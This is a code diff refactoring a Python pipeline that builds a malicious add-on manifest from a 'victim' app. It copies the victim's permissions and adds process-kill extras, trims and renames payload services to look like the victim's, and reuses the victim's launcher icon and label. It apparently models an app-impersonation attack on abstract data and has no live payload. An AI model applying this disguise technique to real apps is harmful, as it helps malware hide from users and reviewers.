@@ -6,13 +6,17 @@ customized add-on manifest plus a trimmed payload manifest, in four steps:
   1. permissions/features: the template's declare-everything set is replaced
      by the victim's, plus the shortcut and process-kill extras;
   2. payload trimming: catalog services whose permissions the victim does
-     not declare are dropped, the rest are renamed to correlate with the
-     victim, and the payload manifest declares exactly what survives;
-  3. components: victim components are copied name-for-name, payload
-     components are embedded, and the template's framework components are
-     renamed by swapping their "Plugin" prefix for the victim's label;
-  4. resources: the victim's launcher icon and label are stored as the
-     add-on's shortcut resources.
+     not declare are dropped;
+  3. components: victim components are copied name-for-name, the surviving
+     payload services are renamed to correlate with the victim and embedded,
+     and the template's framework components are renamed by swapping their
+     "Plugin" prefix for the victim's label;
+  4. resources: the victim's launcher icon and label become the add-on's
+     shortcut resources.
+
+The steps compute field values only; ``customize`` then builds the add-on
+and the payload manifest once each, the payload declaring exactly the
+permissions its surviving services require.
 
 The payload catalog is a services-only manifest that ``check_catalog``
 accepts. The pipeline is a pure transformation (identical outputs for identical
@@ -22,7 +26,7 @@ inputs, durations aside) and safe to fan out across workers.
 from __future__ import annotations
 
 import time
-from dataclasses import dataclass, field, replace
+from dataclasses import dataclass
 
 from .manifest import (
     KIND_KEYS,
@@ -45,7 +49,7 @@ class CustomizationResult:
     addon: AppManifest
     malicious: AppManifest
     rename_map: dict[str, str]
-    report: list[dict] = field(default_factory=list)
+    report: list[dict]
 
 
 def check_catalog(m: AppManifest) -> AppManifest:
@@ -80,56 +84,18 @@ def _named(comp: Component, name: str) -> Component:
                      comp.requires_permissions, comp.payload, comp.stub)
 
 
-def step1_permissions(victim: AppManifest, addon_template: AppManifest) -> AppManifest:
-    """Replace the template's permission/feature sets with the victim's plus extras."""
-    return replace(
-        addon_template,
-        permissions=victim.permissions | ADDON_EXTRA_PERMISSIONS,
-        features=victim.features,
-    )
+def _merge_components(
+    victim: AppManifest, services: list[Component], addon_template: AppManifest
+) -> tuple[dict[str, list[Component]], dict[str, str], list[Component]]:
+    """Step 3: the add-on's components by kind, the framework rename map, and
+    the payload services under their final names.
 
-
-def step2_trim_malicious(victim: AppManifest, catalog: AppManifest) -> AppManifest:
-    """Keep only catalog services the victim's permissions can feed.
-
-    Survivors are renamed to correlate with the victim, and the output
-    manifest declares exactly the union of their required permissions:
-    nothing beyond what the victim already declares.
-    """
-    kept = [
-        svc for svc in catalog.services
-        if svc.requires_permissions <= victim.permissions
-    ]
-    renamed = tuple(_named(svc, _correlated_name(svc.name, victim.label)) for svc in kept)
-    permissions = frozenset().union(*(svc.requires_permissions for svc in kept)) \
-        if kept else frozenset()
-    return AppManifest(
-        package=catalog.package,
-        label=catalog.label,
-        version=catalog.version,
-        permissions=permissions,
-        services=renamed,
-        launcher_icon=catalog.launcher_icon,
-    )
-
-
-def _with_components(m: AppManifest, by_kind: dict[str, list[Component]]) -> AppManifest:
-    return replace(m, **{KIND_KEYS[kind]: comps for kind, comps in by_kind.items()})
-
-
-def step3_components(
-    victim: AppManifest, malicious: AppManifest, addon: AppManifest
-) -> tuple[AppManifest, dict[str, str], AppManifest]:
-    """Copy victim and payload components into the add-on; rename the framework rest.
-
-    Returns the merged add-on, the framework rename map, and the payload
-    manifest carrying any renames forced on its components. Collisions are
+    Payload services are renamed to correlate with the victim. Collisions are
     resolved by suffixing ``_c<k>`` with the smallest k that frees the name;
     victim components are placed first so their names always survive verbatim.
     """
     used: set[str] = set()
     by_kind: dict[str, list[Component]] = {k: [] for k in KIND_KEYS}
-    payload: dict[str, list[Component]] = {k: [] for k in KIND_KEYS}
 
     def free(name: str) -> str:
         final, k = name, 0
@@ -144,51 +110,51 @@ def step3_components(
     # so the add-on keeps a single launcher of its own.
     for comp in victim.components():
         by_kind[comp.kind].append(Component(free(comp.name), comp.kind, intents=comp.intents))
-    for comp in malicious.components():
-        name = free(comp.name)
-        by_kind[comp.kind].append(Component(name, comp.kind, intents=comp.intents))
-        payload[comp.kind].append(_named(comp, name))
+    payload = []
+    for svc in services:
+        name = free(_correlated_name(svc.name, victim.label))
+        by_kind[svc.kind].append(Component(name, svc.kind, intents=svc.intents))
+        payload.append(_named(svc, name))
 
     rename_map: dict[str, str] = {}
-    for comp in addon.components():
+    for comp in addon_template.components():
         name = rename_map[comp.name] = free(_correlated_name(comp.name, victim.label))
         by_kind[comp.kind].append(_named(comp, name))
-
-    return (_with_components(addon, by_kind), rename_map,
-            _with_components(malicious, payload))
+    return by_kind, rename_map, payload
 
 
-def step4_resources(victim: AppManifest, addon: AppManifest) -> AppManifest:
-    """Store the victim's launcher icon and label as the add-on's shortcut resources."""
-    icon, label = extract_launcher_resources(victim)
-    return replace(addon, shortcut_icon=icon, shortcut_label=label)
+_STEPS = (
+    ("permissions", "copy victim permissions and features, add shortcut/kill extras"),
+    ("trim_payload", "drop payload services the victim cannot feed"),
+    ("components", "embed victim and payload components, rename framework stubs"),
+    ("resources", "copy victim launcher icon and label for the shortcut"),
+)
 
 
 def customize(victim: AppManifest, addon_template: AppManifest,
               catalog: AppManifest) -> CustomizationResult:
-    """Run steps 1-4 in order, timing each with a monotonic clock."""
-    report: list[dict] = []
+    """Run steps 1-4 in order, timing each with a monotonic clock, then build
+    the add-on and the payload manifest once each."""
+    marks = [time.perf_counter()]
+    permissions = victim.permissions | ADDON_EXTRA_PERMISSIONS
+    marks.append(time.perf_counter())
+    kept = [svc for svc in catalog.services if svc.requires_permissions <= victim.permissions]
+    marks.append(time.perf_counter())
+    by_kind, rename_map, services = _merge_components(victim, kept, addon_template)
+    marks.append(time.perf_counter())
+    shortcut_icon, shortcut_label = extract_launcher_resources(victim)
+    marks.append(time.perf_counter())
+    report = [{"step": step, "detail": detail, "duration_ms": (end - start) * 1000.0}
+              for (step, detail), start, end in zip(_STEPS, marks, marks[1:])]
 
-    def timed(step: str, fn, detail: str):
-        start = time.perf_counter()
-        out = fn()
-        report.append({
-            "step": step,
-            "detail": detail,
-            "duration_ms": (time.perf_counter() - start) * 1000.0,
-        })
-        return out
-
-    addon = timed("permissions", lambda: step1_permissions(victim, addon_template),
-                  "copy victim permissions and features, add shortcut/kill extras")
-    malicious = timed("trim_payload", lambda: step2_trim_malicious(victim, catalog),
-                      "drop payload services the victim cannot feed")
-    addon, rename_map, malicious = timed(
-        "components", lambda: step3_components(victim, malicious, addon),
-        "embed victim and payload components, rename framework stubs")
-    addon = timed("resources", lambda: step4_resources(victim, addon),
-                  "copy victim launcher icon and label for the shortcut")
-
+    t = addon_template
+    addon = AppManifest(t.package, t.label, t.version, permissions, victim.features,
+                        *by_kind.values(), t.launcher_icon, shortcut_icon, shortcut_label,
+                        t.native_components)
+    malicious = AppManifest(
+        catalog.package, catalog.label, catalog.version,
+        frozenset().union(*(svc.requires_permissions for svc in kept)),
+        services=services, launcher_icon=catalog.launcher_icon)
     result = CustomizationResult(addon=addon, malicious=malicious,
                                  rename_map=rename_map, report=report)
     validate_result(victim, result)
